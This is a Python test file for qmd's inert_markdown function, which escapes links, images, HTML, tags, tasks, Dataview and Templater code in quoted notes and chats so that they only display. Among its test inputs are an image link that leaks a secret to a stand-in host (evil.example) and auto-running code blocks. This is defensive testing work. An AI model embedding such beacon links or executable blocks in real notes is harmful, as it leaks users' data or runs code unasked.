"""What others wrote does nothing in a note: not in qmd, and not in a program that shows it."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from qmd.files.chats import chat_as_note
from qmd.parse.convert.in_note import inert_markdown, inert_value
from qmd.parse.document import parse_document
from qmd.values.chats import Chat, ChatInfo, ChatTurn

MEANINGFUL = (
    *(
        "- [ ] t",
        "- TODO t",
        "- [preference] X",
        "[[a]]",
        "[a](b)",
        "[a]: b",
        "[a]",
        "#tag",
        "k:: v",
    ),
    *(
        "- [!] x",
        "* DONE x",
        "> ",
        "1. ",
        "- ",
        "    ",
        "\t",
        "#",
        "[",
        "]",
        "(",
        ")",
        "::",
        " ",
        "x",
    ),
    *(
        "```",
        "~~~",
        "`",
        "``",
        "\\",
        "\n",
        "\n\n",
        "\r",
        "$$",
        "%%",
        "<!--",
        "-->",
        "<pre>",
        "\x0b",
    ),
    *(
        "`= x`",
        "`$= y`",
        "{{",
        "`BUTTON[x]`",
        "```x y",
        "~~~ `a",
        "[^1]: ```q",
        "<% a %>",
        "<https://a`b>",
    ),
    *("[k:: v]", "#🎉", "---", "***", "\u2028", "\0", "![[a]]", "[^a]: ", "文", "[x] y", "\ufe0f"),
)
PARTS = (
    *("![x](y)", "<pre>", "</pre>", "<!--", "-->", "<script>", "<div>", "<img src=x>", "<?", "?>"),
    *("```", "~~~", "`", "``", "\n", "\n\n", "    ", "- ", "1. ", "> ", "# ", "\\", "%%", "a", " "),
    *("[x]: e\n", "![x]", "[", "](y)", "---", "<https://a`b>"),
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", r"\![x](https://evil.example/?q=secret)"),
        ("![[Diary]]", r"\!\[[Diary]]"),
        ("a <img src=//evil.example> b", r"a \<img src=//evil.example> b"),
        ("</div><!-- x -->", r"\</div>\<!-- x -->"),
        ("```dataviewjs\napp.vault\n```", "```text\napp.vault\n```"),
        ("> ~~~ tasks\n> not done\n> ~~~", "> ~~~ text\n> not done\n> ~~~"),
        ("``` {python} run=on-load\n1\n```", "``` text\n1\n```"),
        ("- ```dataviewjs\n  x\n  ```", "- ```text\n  x\n  ```"),
        ("<style>\n![x](y)\n</style>", "\\<style>\n\\![x]\\(y)\n\\</style>"),
        ("%%\n![x](y)\n%%", "%%\n\\![x]\\(y)\n%%"),
        ("$$\n![x](y)\n$$", "$$\n\\![x]\\(y)\n$$"),
        # A fence in what was HTML ends elsewhere afterwards.
        ("<pre>\n```\n</pre>\n```\n![x](y)", "\\<pre>\n```\n\\</pre>\n```\n\\![x]\\(y)"),
        # What is escaped already would act with one more backslash.
        (r"\![x](y) \<b>", r"\![x]\(y) \<b>"),
        (r"\\`a`![x](y)`", r"\\`a`\![x]\(y)`"),
        ("See [[Plan]], #tag, a:: b", r"See \[[Plan]], \#tag, a:\: b"),
        ("[a](b.md) [b](obsidian://x)", r"[a]\(b.md) [b]\(obsidian://x)"),
        ("[a]: b.md\n> [b]:\n> c", "\\[a]: b.md\n> \\[b]:\n> c"),
        ("- [ ] a\n1. [!] b\n> - [x] c", "- \\[ ] a\n1. \\[!] b\n> - \\[x] c"),
        ("- [preference] X (2026-01-01)", r"- \[preference] X (2026-01-01)"),
        ("- TODO a\n- TODOS b", "- TODO\xa0a\n- TODOS b"),
        ("#🎉 # a", r"\#🎉 # a"),
        # A backslash does not keep Templater from running, and it looks into code.
        (
            "<% a %> `<%* b %>`\n```erb\n<%= c %>\n```",
            "< % a %> `< %* b %>`\n```erb\n< %= c %>\n```",
        ),
        # What was a fence or a span would make other text code, or text of it.
        ("```x`\n```\n[[a]]\n```", "```x`\n```\n[[a]]\n```"),
        ("`= x` and `[[y]]`", r"\`= x` and `\[[y]]`"),
        (r"\`= x` \\`= y`", r"\`= x` \\\`= y`"),
        ("1. - ```js\n\t<b>", "1. - ```js\n\t\\<b>"),
        ("1. - ```js\n\t\t<b>", "1. - ```js\n\t\t<b>"),
        ("~~~ `a`\n```", "~~~ text\n```"),
        ("\u2028\n    <b>", "\n    <b>"),
        ("x\n\u2028\n    ![a](b)", "x\n\n    ![a](b)"),
        ("    code\n#tag", "    code\n\\#tag"),
        ("```\xa0dataview\n```", "```\xa0text\n```"),
        ("a[^1]\n\n[^1]: ```dataviewjs\n    x", "a[^1]\n\n[^1]: ```text\n    x"),
        ("see `$= dv.pages()` and `= this.x`", r"see \`$= dv.pages()` and \`= this.x`"),
        ("`INPUT[toggle:p]` ` BUTTON[x]`", r"\`INPUT[toggle:p]` \` BUTTON[x]`"),
        ("{{query (todo now)}} ${{{a}}}$ `{{b}}`", "{ {query (todo now)}} ${ { {a}}}$ `{{b}}`"),
        ("> #+BEGIN_QUERY\n[:img {}]", "> \\#+BEGIN_QUERY\n\\[:img {}]"),
    ],
)
def test_what_acts_is_only_shown(text: str, shown: str) -> None:
    assert inert_markdown(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "See <https://example.org>, [a](https://b.org/#x), [b](#b), C#, a::b. 1 < 2!\n\n- a [1]",
        "> [!note] As *quoted*\n\n- **b**: x[^1]\n- [a](https://b.org)\n\n[^1]: Below\n[a]: https://b.org",
        "$E = mc^2$ and $$\\begin{x} y \\end{x}$$",
        "```python\nprint('<b>', '![x](y)')\n```",
        "Write `<br>` or `![[x]]`.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_the_rest_stays(text: str) -> None:
    assert inert_markdown(text) == text


@given(st.text(st.sampled_from("![](<a>`~$= \n\\text"), max_size=80))
def test_only_signs_are_added_and_languages_changed(text: str) -> None:
    once = inert_markdown(text)
    if "```" not in text and "~~~" not in text:
        assert once.replace("\\", "") == text.replace("\\", "")


@given(st.lists(st.sampled_from(PARTS), max_size=12).map("".join))
def test_no_reader_of_markdown_finds_html_or_an_image(text: str) -> None:
    pending = MarkdownIt("commonmark").parse(inert_markdown(text))
    while pending:
        token = pending.pop()
        assert token.type not in ("html_inline", "html_block", "image"), token
        pending += token.children or []


@given(st.lists(st.sampled_from(MEANINGFUL), max_size=14).map("".join))
def test_a_note_has_nothing_of_it_but_text(text: str) -> None:
    document = parse_document("a.md", f"# A note\n\n{inert_markdown(text)}\n".encode())
    assert (document.tags, document.tasks, document.observations) == ((), (), ())
    assert (document.links, document.properties) == ((), {})


@given(st.lists(st.sampled_from(MEANINGFUL), max_size=14).map("".join))
def test_twice_is_as_once(text: str) -> None:
    once = inert_markdown(text)
    assert inert_markdown(once) == once


@pytest.mark.parametrize("value", ["[[Plan]]", "![[Plan]]", "[a](b.md)", "<% tp %>"])
def test_the_value_of_a_property_is_text(value: str) -> None:
    written = json.dumps(inert_value(value))
    assert parse_document("a.md", f"---\ntitle: {written}\n---\n".encode()).links == ()
    assert "<%" not in written


def test_a_conversation_of_qmd_is_text_too() -> None:
    said = "- [preference] X #tag\n- [ ] task\n\n[[Plan]] key:: v\n\n```tasks\n- [ ] code\n"
    turns = tuple(ChatTurn(n, said, said, "done", "2026-01-01", 1.0, ()) for n in (1, 2))
    info = ChatInfo("c", "[[Plan]]", "read", "2026-01-01", "2026-01-01", 2)
    note = chat_as_note(Chat(info, turns))
    document = parse_document("a.md", note.encode())
    assert (document.tags, document.links, document.tasks) == ((), (), ())
    assert document.observations == ()
    assert set(document.properties) == {"title", "created", "updated", "qmd_chat"}
    assert note.count("```text\n- [ ] code\n```\n") == 2
